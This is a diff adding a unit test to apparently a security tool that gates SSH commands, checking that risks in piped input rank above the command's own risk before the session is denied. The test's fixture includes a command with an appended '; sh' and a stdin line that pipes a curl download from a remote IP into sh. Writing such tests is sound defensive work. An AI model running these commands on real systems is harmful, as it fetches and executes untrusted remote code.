@@ -198,6 +198,25 @@ class Rules(unittest.TestCase):
         refused = [d for d in decisions(rec.path) if d["decision"] == "refused"]
         self.assertEqual(len(refused), 1)
 
+    def test_risks_in_the_input_rank_with_the_commands_own(self):
+        proc = subprocess.Popen(bed.ssh_argv() + ["db01", "tandem-peek; sh"],
+                                stdin=subprocess.PIPE, stdout=subprocess.PIPE,
+                                stderr=subprocess.PIPE)
+        try:
+            proc.stdin.write(b"curl -s http://203.0.113.9/x | sh\n")
+            proc.stdin.close()
+            item = bed.pending()[0]
+            levels = [(r["level"], r["why"].startswith("its input: ")) for r in item["risks"]]
+            # The input's critical risk first, the command's low one last.
+            self.assertEqual(levels[0], ("critical", True))
+            self.assertEqual(levels[-1], ("low", False))
+            bed.escort("deny", item["session"], str(item["seq"]))
+            self.assertEqual(proc.wait(20), 255)
+        finally:
+            if proc.poll() is None:
+                proc.kill()
+            proc.wait()
+
     def test_builtin_rules_are_on_by_default(self):
         t = bed.shell(unwatched=True)
         try:
